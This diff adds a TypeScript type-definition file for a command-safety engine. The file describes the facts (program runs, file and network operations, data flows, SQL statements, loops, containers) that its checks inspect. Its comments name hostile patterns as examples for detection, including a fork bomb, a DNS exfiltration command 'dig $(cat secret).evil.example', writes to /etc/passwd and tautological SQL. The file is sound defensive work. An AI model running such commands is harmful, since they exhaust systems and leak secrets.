@@ -1,0 +1,219 @@
+/**
+ * The facts vocabulary (docs/architecture.md): every runtime extractor turns a syntax tree into
+ * these records, and the 15 invariants are written once, over facts, never per grammar.
+ *
+ * Conventions every extractor follows:
+ * - Strings are as the program would see them: quotes removed, escapes resolved, variables
+ *   assigned earlier in the same input substituted. An expansion that cannot be resolved stays
+ *   as written (`$X`, `$(cmd)`, `*`) and the fact is marked `dynamic`.
+ * - Paths keep `~` for the home directory (`$HOME` and `${HOME}` are rewritten to `~`); they are
+ *   not resolved against the workspace here: invariants do that with the policy.
+ * - Spans point into the text the caller submitted. Facts from nested code (bash -c '...',
+ *   python -c, os.system(...)) carry the span of the outer string literal that held the code,
+ *   and `depth` counts how many times the engine re-entered (0 at the top level).
+ * - Extractors may add optional fields; never change the meaning of an existing one.
+ */
+import type { Runtime, Span } from './types.js';
+
+interface FactBase {
+  readonly span: Span;
+  /** Runtime whose extractor produced the fact (nested code reports its own runtime). */
+  readonly runtime: Runtime;
+  /** 0 for the submitted text, +1 for each nested re-entry. */
+  readonly depth: number;
+}
+
+/** A program is run. */
+export interface ExecFact extends FactBase {
+  readonly kind: 'exec';
+  /** Normalised program name: basename, no quotes/backslashes (`/bin/rm`, `\rm`, `r''m` → `rm`). */
+  readonly program: string;
+  /** Full argv, argv[0] as written after unquoting. */
+  readonly argv: readonly string[];
+  /** Program name or an argument came from an expansion that could not be resolved. */
+  readonly dynamic: boolean;
+  /**
+   * The program that started this one when it was not started by the shell directly:
+   * 'find' for find -exec, 'xargs', 'vim', 'awk', 'python' (os.system), 'docker' (run ... cmd),
+   * 'ssh' (remote command), 'sudo', 'env', 'timeout', 'nohup'... Undefined at the top level.
+   */
+  readonly via?: string;
+  /** Standard input is an interactive terminal or nothing (no pipe, no here-doc, no redirect). */
+  readonly stdinInteractive?: boolean;
+}
+
+export type FileOperation =
+  | 'read'
+  | 'write'
+  | 'append'
+  | 'create'
+  | 'delete'
+  | 'truncate'
+  | 'move'
+  | 'copy'
+  | 'link'
+  | 'chmod'
+  | 'chown'
+  | 'execute';
+
+/** A file or directory is touched. Redirections produce these too (`> /etc/passwd` is a write). */
+export interface FileOpFact extends FactBase {
+  readonly kind: 'file';
+  readonly op: FileOperation;
+  readonly path: string;
+  readonly recursive: boolean;
+  /** The program (or API, e.g. 'shutil.rmtree', 'fs.rmSync') that performs the operation. */
+  readonly actor: string;
+  /** chmod mode as written ('777', 'u+s', '4755'); umask value for 'umask'. */
+  readonly mode?: string;
+  /** chown owner as written. */
+  readonly owner?: string;
+  /** Path contains an unresolved expansion or glob. */
+  readonly dynamic?: boolean;
+}
+
+/** Network access. */
+export interface NetOpFact extends FactBase {
+  readonly kind: 'net';
+  /** Host as written (lowercased); IPs are not normalised here (invariants decode 0xA9FEA9FE etc.). */
+  readonly host: string;
+  readonly port?: number;
+  readonly url?: string;
+  readonly scheme?: string;
+  readonly direction: 'connect' | 'listen';
+  /** The operation uploads data (a body, a file, stdin, a form). */
+  readonly sends: boolean;
+  readonly actor: string;
+}
+
+/** Where data comes from, for flows. */
+export type DataSource =
+  | { readonly kind: 'file'; readonly path: string }
+  /** Environment variables: one by name, or the whole environment (env, printenv, /proc/self/environ). */
+  | { readonly kind: 'env'; readonly name?: string }
+  /** Content downloaded from the network. */
+  | { readonly kind: 'net'; readonly host: string; readonly url?: string }
+  /** Content decoded from an encoding (base64 -d, xxd -r, atob, b64decode). */
+  | { readonly kind: 'decoded' }
+  /** Output of a command whose content is not otherwise known. */
+  | { readonly kind: 'output'; readonly program: string };
+
+/** Where data goes, for flows. */
+export type DataSink =
+  | { readonly kind: 'net'; readonly host: string; readonly url?: string }
+  /** Executed as code by an interpreter or shell (sh, bash, python, node, eval, exec). */
+  | { readonly kind: 'exec'; readonly program: string }
+  | { readonly kind: 'file'; readonly path: string }
+  /** Used to build a DNS name that is resolved (dig $(cat secret).evil.example). */
+  | { readonly kind: 'dns'; readonly host: string };
+
+/** Data moves from a source to a sink, directly or through pipes, substitutions and variables. */
+export interface FlowFact extends FactBase {
+  readonly kind: 'flow';
+  readonly from: DataSource;
+  readonly to: DataSink;
+}
+
+export type SqlStatementKind =
+  | 'select'
+  | 'insert'
+  | 'update'
+  | 'delete'
+  | 'truncate'
+  | 'drop'
+  | 'alter'
+  | 'create'
+  | 'grant'
+  | 'revoke'
+  | 'copy'
+  | 'load'
+  | 'call'
+  | 'other';
+
+/** One SQL statement, from a direct SQL input or a query string inside code or a psql -c argument. */
+export interface SqlStmtFact extends FactBase {
+  readonly kind: 'sql';
+  readonly statement: SqlStatementKind;
+  /** What a DDL statement acts on: 'table', 'database', 'schema', 'role', 'user', 'column'... */
+  readonly object?: string;
+  /** Target table or object names as written. */
+  readonly targets: readonly string[];
+  /** UPDATE/DELETE: a WHERE clause is present. */
+  readonly hasWhere?: boolean;
+  /** The WHERE clause is always true (1=1, true, 'a'='a', x=x, OR 1=1). */
+  readonly tautologicalWhere?: boolean;
+  /** ALTER TABLE ... DROP COLUMN/CONSTRAINT. */
+  readonly dropsColumn?: boolean;
+  /** GRANT ALL / ALL PRIVILEGES. */
+  readonly grantsAll?: boolean;
+  /** CREATE/ALTER ROLE|USER with SUPERUSER, or a MySQL grant WITH GRANT OPTION on *.* */
+  readonly createsSuperuser?: boolean;
+  /** INTO OUTFILE/DUMPFILE target, COPY ... TO 'file'. */
+  readonly writesFile?: string;
+  /** COPY ... TO/FROM PROGRAM command. */
+  readonly runsProgram?: string;
+  /** Functions called, lowercased without schema ('pg_read_file', 'load_file', 'dblink'). */
+  readonly functions: readonly string[];
+  /** Tables read, lowercased with schema when written ('pg_shadow', 'mysql.user'). */
+  readonly readsTables: readonly string[];
+  /** The parser rejected the statement and a keyword fallback produced this fact. */
+  readonly fallback?: boolean;
+  readonly text: string;
+}
+
+/** A loop or recursion. */
+export interface LoopFact extends FactBase {
+  readonly kind: 'loop';
+  /** The loop has no finite bound (while true, while :, for(;;), while True). */
+  readonly unbounded: boolean;
+  /** The body sleeps or waits. */
+  readonly sleeps: boolean;
+  /** The body can leave the loop (break, exit, return). */
+  readonly exits: boolean;
+  /** The body forks itself (fork bomb `:(){ :|:& };:`, os.fork in a loop). */
+  readonly forks: boolean;
+}
+
+/** A container is started or configured (docker run/create/exec flags, compose, Dockerfile). */
+export interface ContainerFact extends FactBase {
+  readonly kind: 'container';
+  readonly privileged: boolean;
+  readonly mounts: readonly { readonly source: string; readonly target: string; readonly readOnly: boolean }[];
+  readonly hostNamespaces: readonly ('pid' | 'net' | 'ipc' | 'uts' | 'userns' | 'cgroupns')[];
+  readonly capAdd: readonly string[];
+  readonly securityOpt: readonly string[];
+  readonly devices: readonly string[];
+  readonly image?: string;
+  readonly user?: string;
+}
+
+/**
+ * A literal string in the input (argument, string constant, here-doc, tool-call argument). The
+ * text invariants (PII, prompt injection) read these.
+ */
+export interface LiteralFact extends FactBase {
+  readonly kind: 'literal';
+  readonly text: string;
+  /** The literal is carried to a network sink or sits in a tool-call payload. */
+  readonly egress: boolean;
+}
+
+/** Part of the input that did not parse; invariants deny when risky tokens sit inside. */
+export interface UnparsedFact extends FactBase {
+  readonly kind: 'unparsed';
+  readonly text: string;
+}
+
+export type Fact =
+  | ExecFact
+  | FileOpFact
+  | NetOpFact
+  | FlowFact
+  | SqlStmtFact
+  | LoopFact
+  | ContainerFact
+  | LiteralFact
+  | UnparsedFact;
+
+export type FactKind = Fact['kind'];
+export type FactOf<K extends FactKind> = Extract<Fact, { kind: K }>;
